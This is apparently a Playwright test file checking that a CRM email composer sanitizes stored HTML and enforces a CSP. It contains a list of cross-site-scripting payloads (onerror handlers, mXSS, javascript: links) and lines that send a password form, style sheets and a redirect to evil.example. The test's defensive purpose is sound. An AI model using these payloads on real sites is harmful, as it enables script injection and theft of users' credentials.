"""No script runs on the app's own pages, whatever HTML users store.

One rep stores hostile HTML as shared snippets and templates; the admin has it as a signature.
Each is stored as is, as rows saved before the sanitizer covered them would be: the hostile
vectors of tests/corpus/html_hostile (every HTML part, attachments included) and classic
script-injection canaries written for this test. The admin opens the composer and inserts each:
no script may run (alert and its kin are counted, dialogs too), the page's CSP must not even
have had to refuse a script (the sanitizer removed them all first), and no request may leave
for another host (tracking pixels, remote style sheets, form targets). The next tests show that
the CSP alone stops script that skipped the sanitizer, that the pages still look and work right
under it (screenshots at 1280 and 390 px under /tmp/csp-screens/), and that the editor's Link
button makes web and mail links, never javascript: ones.
"""

from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from mailboxes.constants import Sharing
from mailboxes.models import EmailTemplate, Signature, Snippet
from tests.browser.conftest import DESKTOP, PHONE
from tests.mailboxes.corpus import corpus_files, html_parts
from tests.mailboxes.inboxes import unreachable_mailbox

pytestmark = pytest.mark.browser
SCREENSHOTS = Path("/tmp/csp-screens")
# Written for this test (the corpus holds only real-world mail): the classic ways to run script
# from inserted HTML, and to make the browser call another host.
CANARIES = [
    "<p>Canary 1</p><img src=x onerror=\"alert('img onerror')\">",
    "<p>Canary 2</p><svg><animate onbegin=\"alert('svg')\" attributeName=x dur=1s></svg>",
    '<p>Canary 3</p><script>alert("script")</script>',
    "<p>Canary 4</p><iframe srcdoc=\"<script>parent.alert('srcdoc')</script>\"></iframe>",
    "<p>Canary 5</p><details open ontoggle=\"alert('ontoggle')\"><summary>x</summary></details>",
    "<p>Canary 6</p><math><mtext><table><mglyph><style><img src=x onerror=\"alert('mxss')\">",
    "<p>Canary 7</p><noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<p>Canary 8</p><video><source onerror=\"alert('video')\"></video>"
    "<a href=\"javascript:alert('link')\">link</a>",
    '<p>Canary 9</p><img src="https://tracker.example/open.gif">'
    '<div style="background:url(https://tracker.example/bg.gif)">bg</div>',
    "<p>Canary 10</p><style>@import url(https://evil.example/x.css);</style>"
    '<link rel=stylesheet href="https://evil.example/y.css">',
    '<p>Canary 11</p><base href="https://evil.example/"><form action="https://evil.example/">'
    "<input type=password name=p></form>",
    '<p>Canary 12</p><object data="https://evil.example/x.swf"></object>'
    '<embed src="https://evil.example/y.swf"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
]
# Counts what script would do: the dialogs (alert & co.) and what the CSP refused.
WATCH = """
window.__ran = [];
["alert", "confirm", "prompt", "print"].forEach(function (name) {
  window[name] = function () { window.__ran.push(name + "(" + [].join.call(arguments) + ")"); };
});
window.__refused = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__refused.push(e.effectiveDirective + " " + e.blockedURI);
});
"""
# Resolves once every image in the editor has loaded or failed: by then the handler of any
# error or load event has run (inline handlers are registered first).
IMAGES_SETTLED = """
() => Promise.all([...document.querySelectorAll(".editor img")].map((img) =>
  img.complete ? null : new Promise((done) => {
    img.addEventListener("load", done); img.addEventListener("error", done);
  })))
"""


def vectors() -> list[tuple[str, str]]:
    found = []
    for path in corpus_files("html_hostile"):
        for n, html in enumerate(html_parts(path.read_bytes())):
            found.append((f"{path.stem}#{n}", html))
    return found + [(f"canary {n}", html) for n, html in enumerate(CANARIES, 1)]


def watch(page, live_server):
    """Watch a page: dialogs, console errors and requests to any host but the app's."""
    seen = {"dialogs": [], "foreign": [], "console": []}
    own = urlsplit(live_server.url).netloc
    page.add_init_script(WATCH)
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("console", lambda m: m.type == "error" and seen["console"].append(m.text))

    def route(route):
        url = urlsplit(route.request.url)
        if url.scheme in ("http", "https", "ws", "wss") and url.netloc != own:
            seen["foreign"].append(route.request.url)
            route.abort()
        else:
            route.continue_()

    page.context.route("**/*", route)
    return seen


@pytest.fixture
def admin_composer(admin_user, owner, contact):
    unreachable_mailbox(admin_user, "ada@crm.example")
    return f"/records/contacts/{contact.pk}/"


def test_hostile_snippets_templates_and_signatures_run_nothing_in_an_admins_composer(
    page, login, live_server, admin_user, owner, admin_composer
):
    hostile = vectors()
    for n, (_name, html) in enumerate(hostile):
        Snippet.objects.create(owner=owner, name=f"Vector {n}", body=html, sharing=Sharing.EVERYONE)
        EmailTemplate.objects.create(
            owner=owner, name=f"Vector {n}", subject=f"Vector {n}", body=html,
            sharing=Sharing.EVERYONE,
        )  # fmt: skip
    signature = Signature.objects.create(owner=admin_user, name="Mine", body="", is_default=True)
    seen = watch(page, live_server)
    login(page, admin_user.username)

    for n, (name, html) in enumerate(hostile):
        signature.body = html
        signature.save()
        page.goto(admin_composer)  # the signature comes with the new email
        page.get_by_role("group", name="Actions").get_by_role("link", name="Email").click()
        composer = page.locator("#composer")
        editor = composer.get_by_role("textbox", name="Message body")
        expect(editor).to_be_visible()
        composer.get_by_label("Insert snippet").select_option(label=f"Vector {n}")
        composer.get_by_label("Insert template").select_option(label=f"Vector {n}")
        expect(composer.get_by_label("Subject")).to_have_value(f"Vector {n}")
        if name.startswith("canary"):  # the text survives, three times
            expect(editor).to_contain_text(name.title())
            assert editor.inner_text().count(name.title()) == 3
        page.evaluate(IMAGES_SETTLED)
        ran, refused = page.evaluate("[window.__ran, window.__refused]")
        assert ran == [] and seen["dialogs"] == [], f"{name}: script ran: {ran} {seen['dialogs']}"
        # The sanitizer left nothing for the CSP to refuse but remote images.
        others = [r for r in refused if not r.startswith("img-src")]
        assert others == [], f"{name}: the CSP had to refuse {others}"
        assert seen["foreign"] == [], f"{name}: requests left for {seen['foreign']}"


@pytest.mark.csp_refusals_expected
def test_the_csp_alone_stops_script_that_skipped_the_sanitizer(
    page, login, live_server, admin_user, admin_composer
):
    seen = watch(page, live_server)
    login(page, admin_user.username)
    page.goto(admin_composer)
    page.get_by_role("group", name="Actions").get_by_role("link", name="Email").click()
    editor = page.locator("#composer .editor")
    expect(editor).to_be_visible()
    # Straight into the page, past the server: what a sanitizer bug would let through.
    page.evaluate(
        """(editor) => {
          editor.innerHTML = '<img src="/static/nothing.png" onerror="alert(1)">' +
            '<img src="https://tracker.example/open.gif">';
          document.body.insertAdjacentHTML(
            "beforeend", '<a id="js" href="javascript:alert(2)">x</a>');
        }""",
        editor.element_handle(),
    )
    page.evaluate(IMAGES_SETTLED)
    page.evaluate("document.getElementById('js').click()")
    ran, refused = page.evaluate("[window.__ran, window.__refused]")
    assert ran == [] and seen["dialogs"] == []
    assert seen["foreign"] == []
    directives = {r.split()[0] for r in refused}
    assert {"script-src-attr", "img-src"} <= directives, refused


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["1280", "390"])
def test_pages_look_and_work_right_under_the_csp(
    new_page, login, live_server, admin_user, owner, admin_composer, viewport
):
    Snippet.objects.create(
        owner=owner, name="Thanks", body='<p style="color:#c00">Thanks!</p>',
        sharing=Sharing.EVERYONE,
    )  # fmt: skip
    page = new_page(viewport=viewport)
    seen = watch(page, live_server)
    SCREENSHOTS.mkdir(exist_ok=True)
    width = viewport["width"]
    login(page, admin_user.username)

    page.goto(admin_composer)
    page.get_by_role("group", name="Actions").get_by_role("link", name="Email").click()
    composer = page.locator("#composer")
    editor = composer.get_by_role("textbox", name="Message body")
    composer.get_by_label("Insert snippet").select_option(label="Thanks")
    # Style attributes of email HTML still apply in the editor (style-src-attr).
    expect(editor.get_by_text("Thanks!")).to_have_css("color", "rgb(204, 0, 0)")
    editor.press("Enter")
    editor.press_sequentially("Hello")
    editor.press("Shift+Home")
    composer.get_by_role("button", name="Bold").click()
    expect(editor.locator("b")).to_have_text("Hello")
    page.screenshot(path=SCREENSHOTS / f"composer-{width}.png", full_page=True)

    page.goto("/settings/email/templates/")
    page.get_by_label("Name").fill("Intro")
    page.get_by_label("Body").press_sequentially("Hello {{ contact.first_name }}")
    page.get_by_label("Shared with").select_option(label="My team")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status")).to_contain_text("Saved template “Intro”.")
    page.screenshot(path=SCREENSHOTS / f"templates-{width}.png", full_page=True)
    page.goto("/settings/email/snippets/")
    expect(page.get_by_text("shared: Everyone")).to_be_visible()
    page.screenshot(path=SCREENSHOTS / f"snippets-{width}.png", full_page=True)

    # The style sheet loaded: the top bar has its layout, not the browser's defaults.
    assert page.locator(".topbar").evaluate("e => getComputedStyle(e).display") == "flex"
    assert page.evaluate("window.__refused") == []
    assert seen["console"] == [] and seen["foreign"] == []


def test_the_link_button_makes_web_and_mail_links_only(page, login, admin_user, admin_composer):
    login(page, admin_user.username)
    page.goto(admin_composer)
    page.get_by_role("group", name="Actions").get_by_role("link", name="Email").click()
    composer = page.locator("#composer")
    editor = composer.get_by_role("textbox", name="Message body")
    editor.click()
    editor.press_sequentially("Docs")
    address = composer.get_by_label("Link address")
    editor.press("Control+a")
    composer.get_by_role("button", name="Insert link").click()
    address.fill("javascript:alert(1)")
    composer.get_by_role("button", name="Add link").click()
    expect(composer.get_by_text("Only web (https://…) and email addresses")).to_be_visible()
    expect(editor.locator("a")).to_have_count(0)
    address.fill("example.com/docs")
    address.press("Enter")  # adds the link; does not send the form
    expect(editor.locator("a")).to_have_attribute("href", "https://example.com/docs")
    expect(address).to_be_hidden()
    editor.press("End")
    editor.press_sequentially(" and ")
    composer.get_by_role("button", name="Insert link").click()
    address.fill("ann@acme.example")
    composer.get_by_role("button", name="Add link").click()
    expect(editor.locator("a").last).to_have_attribute("href", "mailto:ann@acme.example")
    expect(editor.locator("a")).to_have_count(2)
    assert page.locator("#timeline-items > li.activity-email").count() == 0
